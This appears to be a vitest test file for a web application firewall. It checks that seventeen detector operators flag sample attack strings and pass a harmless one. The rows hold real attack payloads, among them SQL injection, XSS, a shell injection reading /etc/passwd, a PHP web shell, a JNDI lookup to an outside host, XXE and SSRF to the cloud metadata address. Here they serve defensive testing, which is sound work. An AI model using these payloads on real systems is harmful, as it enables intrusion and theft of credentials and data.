import { expect, test } from 'vitest'
import * as detectors from '../../lib/waf/operators/detectors.ts'
import { idsOf, request } from '../support/rules.ts'

const rows: readonly [operator: string, value: string][] = [
  ['detectSQL', "1' or '1'='1"],
  ['detectHTML', '<svg onload=alert(1)>'],
  ['detectPath', '../../etc/passwd'],
  ['detectShell', '; cat /etc/passwd'],
  ['detectCode', '<?php system($_GET[0]); ?>'],
  ['detectTemplate', '{{7*7}}'],
  ['detectJNDI', '${jndi:ldap://x.example/a}'],
  ['detectXXE', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///a">]><a/>'],
  ['detectNoSQL', "', $or: [ {}, { 'a':'b"],
  ['detectLDAP', '*)(uid=*))(|(uid=*'],
  ['detectXPath', "x']/parent::node()/child::*"],
  ['detectSSI', '<!--#exec cmd="id" -->'],
  ['detectCRLF', 'x\r\nSet-Cookie: a=b'],
  ['detectSSRF', 'http://169.254.169.254/latest/'],
  ['detectPrototype', '__proto__[a]'],
  ['detectDeserialisation', 'O:4:"Evil":1:{s:1:"a";s:1:"b";}'],
  ['detectGraphQL', '{ __schema { types { name } } }'],
]

test('detectors as operators of SecLang: 17', async () => {
  for (const [operator, value] of rows) {
    const rule = `SecRule ARGS "@${operator}" "id:1,phase:2,pass"`
    expect(await idsOf(rule, request(`/?a=${encodeURIComponent(value)}`)), operator).toEqual([1])
    expect(await idsOf(rule, request('/?a=It%27s%20a%20dog%2C%20and%20a%20cat')), operator).toEqual([])
  }
  expect(rows.map(([name]) => name).sort()).toEqual(Object.keys(detectors).sort())
  expect(rows.length).toBe(17)
})

test('the argument is the least confidence', () => {
  expect(detectors.detectSQL('0.3')("a' and b = c")).toBeDefined()
  expect(detectors.detectSQL('1')("a' and b = c")).toBeUndefined()
  expect(() => detectors.detectSQL('2')).toThrow(RangeError)
})
